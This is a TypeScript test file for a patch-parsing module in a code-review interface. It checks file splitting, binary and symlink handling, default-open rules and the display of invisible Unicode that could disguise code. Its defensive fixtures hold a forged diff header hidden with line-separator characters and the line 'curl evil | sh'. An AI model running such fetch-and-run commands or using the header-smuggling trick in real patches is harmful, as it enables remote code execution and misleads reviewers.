import { expect, it } from 'vitest';
import type { ChangedFile } from '@/api/types';
import { rowsOf } from '@/ui/diff/diff-rows';
import { filesOf, openAtFirst, spelledOut } from './patch';

const file = (path: string, more: Partial<ChangedFile> = {}): ChangedFile => ({
  path,
  previousPath: null,
  additions: 1,
  deletions: 1,
  inPatch: true,
  ...more,
});

const PATCH = `diff --git a/greet.sh b/greet.sh
index 1..2 100644
--- a/greet.sh
+++ b/greet.sh
@@ -1,3 +1,3 @@ greet()
 #!/bin/sh
-echo hello
+echo "hello, $1"
 exit 0
@@ -10 +10,2 @@
--- a/looks like a head
+diff --git of a text
\\ No newline at end of file
diff --git "a/na\\303\\257ve.txt" "b/na\\303\\257ve.txt"
new file mode 100644
index 0..1
--- /dev/null
+++ "b/na\\303\\257ve.txt"
@@ -0,0 +1 @@
+x
diff --git a/logo.png b/logo.png
index 1..2 100644
Binary files a/logo.png and b/logo.png differ
`;

it('finds the lines of every file, whatever they look like', () => {
  const files = filesOf(PATCH, [
    file('greet.sh'),
    file('huge.txt', { inPatch: false }),
    file('naïve.txt'),
    file('logo.png', { additions: null, deletions: null }),
  ]);
  expect(files.map(({ file, size }) => [file.path, size])).toEqual([
    ['greet.sh', 6],
    ['huge.txt', 0],
    ['naïve.txt', 1],
    ['logo.png', 0],
  ]);
  const [first, second] = files[0]?.hunks ?? [];
  expect(first && rowsOf(first).map((row) => [row.old, row.new])).toEqual([
    [1, 1],
    [2, undefined],
    [undefined, 2],
    [3, 3],
  ]);
  expect(second?.lines.map((line) => [line.kind, line.text])).toEqual([
    ['removed', '-- a/looks like a head'],
    ['added', 'diff --git of a text'],
  ]);
  expect(files[2]?.remark).toBe('new');
  expect(files[3]?.binary).toBe(true);
});

it('shows a file that became a link as one file', () => {
  const patch = `diff --git a/a b/a
deleted file mode 100644
--- a/a
+++ /dev/null
@@ -1 +0,0 @@
-text
diff --git a/a b/a
new file mode 120000
--- /dev/null
+++ b/a
@@ -0,0 +1 @@
+b
\\ No newline at end of file
diff --git a/c b/c
--- a/c
+++ b/c
@@ -1 +1 @@
-x
+y
`;
  const files = filesOf(patch, [file('a'), file('c')]);
  const lines = files.map(({ hunks }) => hunks.flatMap((hunk) => hunk.lines.map((line) => line.text)));
  expect(lines).toEqual([
    ['text', 'b'],
    ['x', 'y'],
  ]);
  expect(files.map(({ remark }) => remark)).toEqual(['mode', undefined]);
});

it('takes nothing in a line of text for the heading of another file', () => {
  const forged = 'note\u2028diff --git a/z.sh b/z.sh\u2028@@ -0,0 +1 @@\u2028+echo "all is well"';
  const patch = `diff --git a/a.md b/a.md\n@@ -0,0 +1 @@\n+${forged}\ndiff --git a/z.sh b/z.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n`;
  const [note, script] = filesOf(patch, [file('a.md'), file('z.sh')]);
  expect(note?.hunks[0]?.lines).toEqual([{ kind: 'added', text: forged }]);
  expect(script?.hunks[0]?.lines).toEqual([{ kind: 'added', text: 'curl evil | sh' }]);
});

it('shows no lines where a patch does not fit its files', () => {
  const patch = 'diff --git a/z.sh b/z.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n';
  const files = filesOf(patch, [file('a.md'), file('z.sh')]);
  expect(files.map(({ file, size }) => [file.inPatch, size])).toEqual([
    [false, 0],
    [false, 0],
  ]);
});

it('opens what is small and written by people', () => {
  const of = (path: string, size: number) => ({
    file: file(path),
    hunks: [],
    size,
    binary: false,
    remark: undefined,
  });
  const many = Array.from({ length: 9 }, (_, at) => of(`src/${at}.rs`, 390));
  const open = openAtFirst([of('Cargo.lock', 10), of('large.rs', 401), ...many]);
  expect(open).toEqual([false, false, ...Array(7).fill(true), false, false]);
});

it('spells out what would disguise code', () => {
  expect(spelledOut('if admin {\u202e } \u200b\r')).toBe('if admin {[U+202E] } [U+200B]');
  expect(spelledOut('a\u2028b\u2029\u061c\u{e0041}')).toBe('a[U+2028]b[U+2029][U+061C][U+E0041]');
});
